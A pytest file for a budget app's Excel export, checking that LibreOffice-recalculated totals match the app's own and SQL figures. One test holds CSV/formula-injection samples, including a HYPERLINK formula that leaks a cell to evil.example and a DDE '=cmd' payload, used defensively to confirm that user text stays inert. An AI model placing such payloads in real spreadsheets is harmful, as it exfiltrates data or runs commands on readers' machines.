"""The workbook recalculated by LibreOffice: every total, change and percentage equals the app's own figures.

How the recalculation is forced, and proved: tests/libreoffice.py.
"""

from __future__ import annotations

import io
import zipfile
from collections import defaultdict
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
import sqlalchemy as sa
from export_samples import (
    OBJECT_CLASSES,
    PRIORITIES,
    PROGRAM,
    REGIONS,
    STAFFING,
    SUMMARY,
    TRAVEL,
    detail_rows,
    sample_workbook,
    total,
    write_file,
)
from formulas import Evaluator
from helpers import own_export, plan_scenario
from libreoffice import recalculate, recalculated, soffice, with_stale_cached_values

from exports import Limits, parse_submission
from models import Appropriation, BudgetLine, Division, ObjectClass, Priority, ProgramType, Region, db


@pytest.fixture(scope="module")
def calc(tmp_path_factory):
    soffice()
    workdir = tmp_path_factory.mktemp("libreoffice")
    rows = detail_rows(200)
    path, _ = write_file(sample_workbook(detail=rows), workdir, "written.xlsx")
    stale = workdir / "submission.xlsx"
    with_stale_cached_values(path, stale)
    converted = recalculate(stale, workdir)
    return SimpleNamespace(
        rows=rows,
        path=converted,
        values=openpyxl.load_workbook(converted, data_only=True),
        formulas=openpyxl.load_workbook(path),
    )


def cents(value: object) -> Decimal:
    assert isinstance(value, int | float), f"not a number: {value!r}"
    return Decimal(repr(value)).quantize(Decimal("0.01"))


def test_stale_cached_values_wererecalculated(calc):
    assert b"-999999" in zipfile.ZipFile(calc.path.parent.parent / "submission.xlsx").read("xl/worksheets/sheet1.xml")
    for ws in calc.values:
        for row in ws.iter_rows(values_only=True):
            assert -999999 not in row, ws.title


def test_summary_totals_and_changes(calc):
    ws = calc.values["Summary"]
    for row, item in enumerate(SUMMARY, start=5):
        assert cents(ws[f"F{row}"].value) == item.by - item.cy
        if item.cy:
            assert round(Decimal(repr(ws[f"G{row}"].value)), 10) == round((item.by - item.cy) / item.cy, 10)
        else:
            assert ws[f"G{row}"].value in (None, "")
    for column, year in zip("CDE", ("py", "cy", "by"), strict=True):
        assert cents(ws[f"{column}8"].value) == total([getattr(item, year) for item in SUMMARY])
    assert cents(ws["F8"].value) == total([item.by - item.cy for item in SUMMARY])


def test_object_class_subtotals_and_grand_total(calc):
    ws = calc.values["Object class"]
    for row, account in ((8, "DP"), (10, "ESF"), (13, "INCLE")):
        members = [item for item in OBJECT_CLASSES if item.label[0] == account]
        for column, year in zip("DEF", ("py", "cy", "by"), strict=True):
            assert cents(ws[f"{column}{row}"].value) == total([getattr(item, year) for item in members])
        assert cents(ws[f"G{row}"].value) == total([item.by - item.cy for item in members])
    for column, year in zip("DEF", ("py", "cy", "by"), strict=True):
        assert cents(ws[f"{column}14"].value) == total([getattr(item, year) for item in OBJECT_CLASSES])


def test_program_matrix_totals(calc):
    ws = calc.values["Program"]
    cells: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for region, priority, _, amount in PROGRAM:
        cells[region, priority] += amount
    for row, region in enumerate(REGIONS, start=5):
        assert cents(ws[f"F{row}"].value) == total([cells[region, priority] for priority in PRIORITIES])
    for column, priority in zip("BCDE", PRIORITIES, strict=True):
        assert cents(ws[f"{column}8"].value) == total([cells[region, priority] for region in REGIONS])
    everything = total([amount for *_, amount in PROGRAM])
    assert cents(ws["F8"].value) == cents(ws["F15"].value) == everything


def test_staffing_travel_and_detail_totals(calc):
    staffing = calc.values["Staffing"]
    for column, field in zip("BCDFGH", ("fte_py", "fte_cy", "fte_by", "cost_py", "cost_cy", "cost_by"), strict=True):
        assert cents(staffing[f"{column}7"].value) == total([getattr(item, field) for item in STAFFING])
    assert cents(staffing["I7"].value) == total([item.cost_by - item.cost_cy for item in STAFFING])
    assert cents(calc.values["Travel"]["G7"].value) == total([trip.amount for trip in TRAVEL])
    assert cents(calc.values["About"]["B12"].value) == total([row.amount for row in calc.rows])


def test_every_formula_agrees_with_exact_decimal_arithmetic(calc):
    exact = Evaluator(calc.formulas)
    checked = 0
    for ws in calc.formulas:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type != "f":
                    continue
                expected = exact.value(ws.title, cell.coordinate)
                computed = calc.values[ws.title][cell.coordinate].value
                if expected == "":
                    assert computed in (None, ""), (ws.title, cell.coordinate)
                elif cell.number_format == "0.0%":
                    assert round(Decimal(repr(computed)), 10) == round(expected, 10), (ws.title, cell.coordinate)
                else:
                    assert cents(computed) == expected, (ws.title, cell.coordinate)
                checked += 1
    assert checked > 50  # every total, change and percentage on five sheets


def test_user_text_is_still_text_after_libreoffice_saves_it(calc):
    ws = calc.values["Detail"]
    descriptions = {ws[f"K{n}"].value for n in range(2, len(calc.rows) + 2)}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in descriptions
    assert {"+1", "-2", "@SUM(A1)", "#N/A", "=1+1"} <= descriptions
    assert calc.values["Travel"]["C6"].value == "=cmd|' /C calc'!A0"


def test_a_file_libreoffice_saved_parses_to_the_same_rows(calc):
    parsed = parse_submission(calc.path.read_bytes(), Limits(max_text=40_000))
    assert parsed.errors == ()
    assert [row.amount for row in parsed.rows] == [row.amount for row in calc.rows]
    assert [row.line_id for row in parsed.rows] == [row.line_id for row in calc.rows]
    assert parsed.rows[1].description == "+1"


def test_the_apps_spend_plan_recalculated_totals_each_appropriation_and_the_scenario(app, tmp_path):
    """The demo plan's workbook, recalculated: each column's total is the appropriation's lines, summed by SQL."""
    soffice()
    plan = plan_scenario()
    written = tmp_path / "written.xlsx"
    written.write_bytes(own_export(plan))
    stale = tmp_path / "submission.xlsx"
    with_stale_cached_values(written, stale)
    values = openpyxl.load_workbook(recalculate(stale, tmp_path), data_only=True)["Spend plan"]

    by_label = {
        funds.label: int(cents)
        for funds, cents in db.session.execute(
            sa.select(Appropriation, sa.func.sum(BudgetLine.amount_cents))
            .join(BudgetLine, BudgetLine.appropriation_id == Appropriation.id)
            .where(BudgetLine.scenario_id == plan.id)
            .group_by(Appropriation.id)
        ).tuples()
    }
    scenario_total = db.session.scalar(
        sa.select(sa.func.sum(BudgetLine.amount_cents)).where(
            BudgetLine.scenario_id == plan.id, BudgetLine.appropriation_id.in_(sa.select(Appropriation.id))
        )
    )
    header = [cell.value for cell in values[4]]
    assert (header[0], header[-1]) == ("Month", "Total")
    assert sorted(header[1:-1]) == sorted(by_label)
    totals = next(row for row in values.iter_rows(min_row=5) if row[0].value == "Total")
    for label, cell in zip(header[1:-1], totals[1:-1], strict=True):
        assert cents(cell.value) == Decimal(by_label[label]) / 100, label
    assert cents(totals[-1].value) == Decimal(int(scenario_total)) / 100
    for row in values.iter_rows(min_row=5, max_row=totals[0].row - 1):  # each month's total across
        assert cents(row[-1].value) == sum((cents(cell.value) for cell in row[1:-1]), Decimal(0)), row[0].value


# The demo plan's workbook: Detail drives every sheet --------------------------------------------------------

EDIT = Decimal("1234.56")


def _column(ws, header: str, header_row: int = 4) -> int:
    return next(cell.column for cell in ws[header_row] if cell.value == header)


def _rows_by_label(ws, label_columns: int, amount_column: int) -> dict[tuple, Decimal]:
    """Label cells → the amount, for every row under the header (totals included, by their label)."""
    found = {}
    for row in ws.iter_rows(min_row=5):
        label = tuple(cell.value for cell in row[:label_columns])
        if any(label) and row[amount_column - 1].value is not None:
            found[label] = cents(row[amount_column - 1].value)
    return found


def _sql_by(plan_id: int, *columns) -> dict[tuple, Decimal]:
    query = sa.select(*columns, sa.func.sum(BudgetLine.amount_cents)).where(BudgetLine.scenario_id == plan_id)
    for model in dict.fromkeys(column.class_ for column in columns):
        query = query.join(model, getattr(BudgetLine, f"{model.__tablename__}_id") == model.id)
    rows = db.session.execute(query.group_by(*columns)).tuples()
    return {tuple(row[:-1]): Decimal(int(row[-1])) / 100 for row in rows}


@pytest.fixture
def demo(app, tmp_path):
    """The demo plan exported, recalculated as is and with one Detail amount raised by EDIT."""
    soffice()
    plan = plan_scenario()
    content = own_export(plan)
    detail = openpyxl.load_workbook(io.BytesIO(content))["Detail"]
    header = [cell.value for cell in detail[1]]
    row = next(  # the first line with a region, a priority and a program type
        n
        for n in range(2, detail.max_row + 1)
        if all(detail.cell(n, header.index(name) + 1).value for name in ("Region", "Priority", "Program type"))
    )
    line = {name: detail.cell(row, index + 1).value for index, name in enumerate(header)}

    def raise_amount(workbook):
        cell = workbook["Detail"].cell(row, header.index("Amount") + 1)
        cell.value = float(Decimal(repr(cell.value)) + EDIT)

    return SimpleNamespace(
        plan=plan,
        line=line,
        before=recalculated(content, tmp_path / "before"),
        after=recalculated(own_export(plan, raise_amount), tmp_path / "after"),
    )


def test_the_demo_workbook_recalculated_gives_the_apps_totals_from_sql(demo):
    plan_id = demo.plan.id
    by_account: dict[str, Decimal] = defaultdict(Decimal)
    for (account,), amount in _sql_by(plan_id, Appropriation.account_code).items():
        by_account[account] += amount
    summary = demo.before["Summary"]
    request = _rows_by_label(summary, 1, _column(summary, "FY 2027 Request"))
    assert {account: request[(account,)] for account in by_account} == by_account
    assert request[("Total",)] == sum(by_account.values())
    assert sum(by_account.values()) > 0

    object_class = demo.before["Object class"]
    request = _rows_by_label(object_class, 2, _column(object_class, "FY 2027 Request"))
    expected = {
        (account, f"{code} {title}"): amount
        for (account, code, title), amount in _sql_by(
            plan_id, Appropriation.account_code, ObjectClass.code, ObjectClass.title
        ).items()
    }
    assert {key: request[key] for key in expected} == expected
    assert request[("Total, all accounts", None)] == sum(by_account.values())

    program = demo.before["Program"]
    cells = _sql_by(plan_id, Region.name, Priority.name)
    priorities = [cell.value for cell in program[4]][1:-1]
    for row in program.iter_rows(min_row=5):
        if row[0].value in {name for name, _ in cells}:
            for priority, cell in zip(priorities, row[1:-1], strict=True):
                assert cents(cell.value) == cells.get((row[0].value, priority), Decimal(0)), (row[0].value, priority)

    staffing = demo.before["Staffing"]
    pay = _sql_by(plan_id, Division.name, ObjectClass.group)
    workforce = sum((amount for (_, group), amount in pay.items() if group.startswith("Personnel")), Decimal(0))
    total_row = next(row for row in staffing.iter_rows(min_row=5) if row[0].value == "Total, workforce in the budget")
    assert workforce > 0
    assert cents(total_row[7].value) == workforce  # H: the request year's cost


def _moved(before, after, sheet: str) -> dict[str, Decimal]:
    """Each numeric cell whose recalculated value changed, with how much."""
    moved = {}
    for row in before[sheet].iter_rows():
        for cell in row:
            new = after[sheet][cell.coordinate].value
            if isinstance(cell.value, int | float) and not isinstance(cell.value, bool) and new != cell.value:
                moved[cell.coordinate] = cents(new) - cents(cell.value)
    return moved


def test_an_edit_in_detail_moves_summary_object_class_and_program_by_the_same_amount(demo):
    line = demo.line
    account = line["Appropriation"].split()[0]
    summary, object_class, program = (demo.before[name] for name in ("Summary", "Object class", "Program"))

    def where(ws, *labels: str) -> set[str]:
        """The request-year cells of the rows labelled so (each label in its column, from A)."""
        column = _column(ws, "FY 2027 Request")
        found = set()
        for row in ws.iter_rows(min_row=5):
            if tuple(cell.value for cell in row[: len(labels)]) == labels:
                found.add(f"{row[column - 1].column_letter}{row[0].row}")
        return found

    moved = _moved(demo.before, demo.after, "Summary")
    request = where(summary, account) | where(summary, "Total")
    assert {coordinate: moved[coordinate] for coordinate in request} == dict.fromkeys(request, EDIT)
    change, percent = (openpyxl.utils.get_column_letter(_column(summary, "FY 2027 Request") + n) for n in (1, 2))
    changes = {f"{change}{coordinate[1:]}" for coordinate in request}  # change from CY = request - enacted
    assert {coordinate: moved[coordinate] for coordinate in changes} == dict.fromkeys(changes, EDIT)
    percents = {f"{percent}{coordinate[1:]}" for coordinate in request}
    assert set(moved) - request - changes <= percents

    moved = _moved(demo.before, demo.after, "Object class")
    request = (
        where(object_class, account, line["Object class"])
        | where(object_class, account, f"Total, {account}")
        | where(object_class, "Total, all accounts")
    )
    assert len(request) == 3
    assert {coordinate: moved[coordinate] for coordinate in request} == dict.fromkeys(request, EDIT)
    assert {coordinate[0] for coordinate in moved} <= {"E", "F", "G"}  # request, change, % change
    assert len({coordinate for coordinate in moved if coordinate[0] == "E"}) == 3

    moved = _moved(demo.before, demo.after, "Program")
    headers = [cell.value for cell in program[4]]
    priority = headers.index(line["Priority"]) + 1
    rows = {cell.value: cell.row for cell in program["A"] if isinstance(cell.value, str)}
    region_row = rows[line["Region"]]
    type_row = rows[line["Program type"]]
    region_total, type_total = sorted(cell.row for cell in program["A"] if cell.value == "Total")
    last = len(headers)
    expected = {
        (row, column) for row in (region_row, region_total, type_row, type_total) for column in (priority, last)
    }
    assert {(int(coordinate[1:]), openpyxl.utils.column_index_from_string(coordinate[0])) for coordinate in moved} == (
        expected
    )
    assert set(moved.values()) == {EDIT}

    assert _moved(demo.before, demo.after, "Staffing") == {} or line["Object class"].startswith(("11.", "12.", "13."))
    about_total = next(row for row in demo.before["About"].iter_rows() if row[0].value == "Detail total")[1]
    assert cents(demo.after["About"][about_total.coordinate].value) - cents(about_total.value) == EDIT


def test_detail_has_a_drop_down_of_names_for_each_list_column(app):
    plan = plan_scenario()
    workbook = openpyxl.load_workbook(io.BytesIO(own_export(plan)))
    detail = workbook["Detail"]
    header = [cell.value for cell in detail[1]]
    lists = workbook["Lists"]
    assert lists.sheet_state == "hidden"
    expected = {
        "Appropriation": db.session.scalar(sa.select(sa.func.count(Appropriation.id))),
        "Division": db.session.scalar(sa.select(sa.func.count(Division.id))),
        "Object class": db.session.scalar(sa.select(sa.func.count(ObjectClass.id))),
        "Region": db.session.scalar(sa.select(sa.func.count(Region.id))),
        "Priority": db.session.scalar(sa.select(sa.func.count(Priority.id))),
        "Program type": db.session.scalar(sa.select(sa.func.count(ProgramType.id))),
    }
    found = {}
    lines = db.session.scalar(sa.select(sa.func.count(BudgetLine.id)).where(BudgetLine.scenario_id == plan.id))
    for validation in detail.data_validations.dataValidation:
        assert validation.type == "list"
        (ref,) = str(validation.sqref).split()
        column, rows = ref[0], ref.split(":")
        assert rows == [f"{column}2", f"{column}{lines + 1 + 1000}"]
        sheet, cells = validation.formula1.split("!")
        assert sheet == "Lists"
        first, last = cells.replace("$", "").split(":")
        values = [lists[f"{first[0]}{n}"].value for n in range(2, int(last[1:]) + 1)]
        assert lists[f"{first[0]}1"].value == header[openpyxl.utils.column_index_from_string(column) - 1]
        found[header[openpyxl.utils.column_index_from_string(column) - 1]] = len(values)
    assert found == expected
    regions = set(db.session.scalars(sa.select(Region.name)))
    column = header.index("Region") + 1
    assert {detail.cell(n, column).value for n in range(2, detail.max_row + 1)} - {None} <= regions
